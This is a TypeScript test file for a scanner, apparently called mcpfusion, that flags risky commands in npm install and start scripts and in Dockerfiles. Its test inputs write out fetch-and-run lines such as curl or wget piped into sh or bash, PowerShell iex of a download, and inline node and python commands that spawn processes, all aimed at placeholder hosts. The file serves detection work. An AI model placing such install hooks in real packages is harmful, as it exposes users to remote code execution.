/**
 * Commands outside the code: the package.json scripts npm runs at install and start, and a
 * Dockerfile's RUN, CMD, ENTRYPOINT and ADD (src/scan/project-commands.ts). The shell lexer on
 * its own, the rows on written command lines, two real Dockerfiles of npm MCP server packages,
 * the real installed `deno` package, and `mcpfusion scan` over a package whose postinstall runs a
 * file from its test folder and pipes a download into sh.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { readFileSync } from 'node:fs';
import { shellCommands } from '../../src/scan/shell-words.ts';
import { dockerfileCommands, packageJsonCommands, projectCommandFileKind, scanProjectCommands } from '../../src/scan/project-commands.ts';
import { run } from '../../src/cli.ts';

const F = 'test/fixtures/scan/project-commands';
/** `line id identifier` of each finding of a package.json with these scripts. */
const scripts = (table: Record<string, string>): string[] => scanProjectCommands('package.json', JSON.stringify({ scripts: table }, null, 2), 'package.json').findings.map((f) => `${f.line} ${f.id} ${f.identifier}`);
const docker = (text: string): string[] => scanProjectCommands('Dockerfile', text, 'Dockerfile').findings.map((f) => `${f.line} ${f.id} ${f.identifier}`);

test('the shell lexer splits commands and words, keeps substitutions, drops redirections', () => {
  const words = (line: string): string[][] => shellCommands(line).map((c) => [c.after, ...c.words.map((w) => (w.subs.length > 0 ? `${w.text}{${w.subs.join('|')}}` : w.text))]);
  assert.equal(words('curl -fsSL "https://x.test/a b" | sh'), [['start', 'curl', '-fsSL', 'https://x.test/a b'], ['|', 'sh']]);
  assert.equal(words(`node -e 'require("./x")' && echo ok || true; ls`), [['start', 'node', '-e', 'require("./x")'], ['&&', 'echo', 'ok'], ['||', 'true'], [';', 'ls']]);
  assert.equal(words('bash -c "$(curl -s https://x)" 2>&1 > /dev/null'), [['start', 'bash', '-c', '{curl -s https://x}']]);
  assert.equal(words('sh <(wget -qO- https://x) # comment | sh'), [['start', 'sh', '{wget -qO- https://x}']]);
  assert.equal(words('a\\ b `id` x=$(pwd)'), [['start', 'a b', '{id}', 'x={pwd}']]);
});

test('install and start scripts: downloads, downloads run as code, the scripts they run by name', () => {
  assert.equal(scripts({ postinstall: 'curl -fsSL https://x.test/i.sh | sh' }), ['3 network.command-download command:curl', '3 code-evaluation.command-remote-code command:curl|sh']);
  assert.equal(scripts({ preinstall: 'wget -qO- https://x.test/i | sudo -E bash -s -- --yes' }), ['3 network.command-download command:wget', '3 code-evaluation.command-remote-code command:wget|bash']);
  assert.equal(scripts({ install: 'bash -c "$(curl -fsSL https://x.test/i)"' }), ['3 network.command-download command:curl', '3 code-evaluation.command-remote-code command:curl|bash']);
  assert.equal(scripts({ prepare: 'sh <(curl -s https://x.test/i)' }), ['3 network.command-download command:curl', '3 code-evaluation.command-remote-code command:curl|sh']);
  assert.equal(scripts({ postinstall: 'powershell -NoProfile -Command "iex (iwr https://x.test/i.ps1)"' }), ['3 network.command-download command:iwr', '3 code-evaluation.command-remote-code command:iwr|iex']);
  // Followed by name through npm, yarn and pnpm, at the line of the script that holds the command.
  assert.equal(scripts({ postinstall: 'npm run setup', setup: 'yarn fetch', fetch: 'curl -o bin.tgz https://x.test/b.tgz' }), ['5 network.command-download command:curl']);
  // A download that is unpacked, saved or searched is no code run; a shell given a file runs that file.
  assert.equal(scripts({ postinstall: 'curl -L https://x.test/b.tgz | tar xz && curl -s https://x.test/v | grep 1.2' }), ['3 network.command-download command:curl']);
  assert.equal(scripts({ postinstall: 'curl -o i.sh https://x.test/i.sh && sh i.sh' }), ['3 network.command-download command:curl']);
  // Inline code is scanned as its language, at the script's line.
  assert.equal(scripts({ postinstall: `node -e "require('child_process').execSync('id')"` }), ['3 subprocess.child-process child_process.execSync']);
  assert.equal(scripts({ start: `python3 -c "import os; os.system('id')"` }), ['3 subprocess.python-os-exec os.system']);
  // prepare (run on installs from git, not from the registry) builds: only the command rows, no inline code.
  assert.equal(scripts({ prepare: 'npm run build', build: `tsc && node -e "require('fs').chmodSync('build/index.js', '755')"` }), []);
  assert.equal(scripts({ postinstall: `node -e "require('fs').chmodSync('build/index.js', '755')"` }), ['3 filesystem.node-fs-write fs.chmodSync']);
  assert.equal(scanProjectCommands('package.json', JSON.stringify({ scripts: { prepare: 'node test/gen.js' } }), 'package.json').scripts, []);
  // Scripts npm does not run by itself, and plain commands, report nothing.
  assert.equal(scripts({ test: 'curl https://x.test | sh', build: 'tsc', start: 'node dist/index.js', prepare: 'husky || true' }), []);
});

test('the files install and start scripts run, through interpreters and inline code', () => {
  const run = (table: Record<string, string>): string[] => scanProjectCommands('package.json', JSON.stringify({ scripts: table }), 'package.json').scripts;
  assert.equal(run({ postinstall: 'node install.js' }), ['install.js']);
  assert.equal(run({ postinstall: 'node --no-warnings -r ./hook.cjs scripts/post.mjs && deno run -A tools/x.ts', start: 'tsx src/main.ts' }), ['scripts/post.mjs', 'tools/x.ts', 'src/main.ts']);
  assert.equal(run({ postinstall: `node -e "try{require('./postinstall')}catch(e){}"` }), ['./postinstall']);
  assert.equal(run({ postinstall: 'python -m pkg.setup && node /abs/x.js && node $DIR/x.js', test: 'node test/run.js' }), []);
});

test('Dockerfile: RUN, CMD, ENTRYPOINT (shell and exec form, continuations, heredocs) and ADD of a URL', () => {
  const text = 'FROM node:20\n# RUN curl x | sh\nRUN apt-get update \\\n  # a comment inside\n  && curl -fsSL https://x.test/setup | bash - \\\n  && apt-get install -y nodejs\nADD https://x.test/t.tgz /opt/\nADD ./local /opt/\nENTRYPOINT ["sh", "-c", "wget -qO- https://x.test/a | sh"]\nRUN --mount=type=cache,target=/root/.cache <<EOF\ncurl -s https://x.test/b | python3\nEOF\nHEALTHCHECK --interval=30s \\\n  CMD wget --spider http://localhost:3000/health || exit 1\nCMD ["node", "index.js"]\n';
  assert.equal(docker(text), ['3 network.command-download command:curl', '3 code-evaluation.command-remote-code command:curl|bash', '7 network.command-download command:ADD', '9 network.command-download command:wget', '9 code-evaluation.command-remote-code command:wget|sh', '10 network.command-download command:curl', '10 code-evaluation.command-remote-code command:curl|python3']);
  assert.equal(dockerfileCommands(text).map((c) => c.origin), ['RUN', 'ADD', 'ENTRYPOINT', 'RUN', 'CMD']);
  for (const name of ['Dockerfile', 'Containerfile', 'Dockerfile.prod', 'api.Dockerfile']) assert.is(projectCommandFileKind(name), 'Dockerfile', name);
  for (const name of ['Dockerfile.js', 'Dockerfile.d.ts', 'Makefile', 'docker-compose.yml']) assert.is(projectCommandFileKind(name), undefined, name);
});

test('real Dockerfiles of npm MCP server packages', () => {
  // @negokaz/excel-mcp-server 0.12.0's dev container: a .deb fetched with wget, zsh-in-docker run from its URL.
  assert.equal(docker(readFileSync(`${F}/excel-mcp-server/Dockerfile`, 'utf8')), ['45 network.command-download command:wget', '61 network.command-download command:wget', '61 code-evaluation.command-remote-code command:wget|sh']);
  // @google-cloud/cloud-run-mcp 1.10.0: npm install, node mcp-server.js.
  assert.equal(docker(readFileSync(`${F}/cloud-run-mcp/Dockerfile`, 'utf8')), []);
});

test('the installed deno package: its postinstall runs install.cjs, no finding of its own', () => {
  const text = readFileSync('node_modules/deno/package.json', 'utf8');
  const scan = scanProjectCommands('node_modules/deno/package.json', text, 'package.json');
  assert.equal(packageJsonCommands(text).map((c) => `${c.origin} ${c.command}`), ['scripts.postinstall node ./install.cjs']);
  assert.equal(scan, { findings: [], scripts: ['./install.cjs'] });
});

/** Run the CLI, capturing stdout and stderr. */
async function cli(argv: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  let stdout = '';
  let stderr = '';
  const code = await run(argv, { stdout: (s: string) => void (stdout += s), stderr: (s: string) => void (stderr += s), cwd: process.cwd(), env: {} } as never);
  return { code, stdout, stderr };
}

test('mcpfusion scan: the package.json commands are findings, the file its postinstall runs is scanned', async () => {
  const r = await cli(['scan', `${F}/install-scripts`, '--format', 'json']);
  const json = JSON.parse(r.stdout) as { files: string[]; findings: Array<{ id: string; identifier: string; file: string; line: number; detail?: string }>; entitlements: { raw: string[]; codeEvaluation: boolean }; violations: Array<{ id: string }> };
  // test/setup.js is in a folder a walk leaves out, but the postinstall runs it.
  assert.ok(json.files.includes(`${F}/install-scripts/test/setup.js`), JSON.stringify(json.files));
  const at = json.findings.map((f) => `${f.file.slice(F.length + 1)}:${f.line} ${f.id} ${f.identifier}`);
  assert.equal(at.filter((s) => s.startsWith('install-scripts/package.json')), [
    'install-scripts/package.json:7 network.command-download command:curl',
    'install-scripts/package.json:7 code-evaluation.command-remote-code command:curl|sh',
    'install-scripts/package.json:8 filesystem.node-fs-read fs.readFileSync',
  ]);
  assert.ok(at.includes('install-scripts/test/setup.js:2 subprocess.child-process child_process.execSync'), at.join('\n'));
  assert.ok(json.entitlements.raw.includes('command:curl|sh') && json.entitlements.codeEvaluation);
  assert.ok(json.violations.some((v) => v.id === 'violation.code-evaluation-not-allowed'));
  assert.is(r.code, 1);
  // The `test` script's download is no finding: npm runs it only when asked.
  assert.not.ok(at.some((s) => s.includes('command:wget')));
});

test.run();
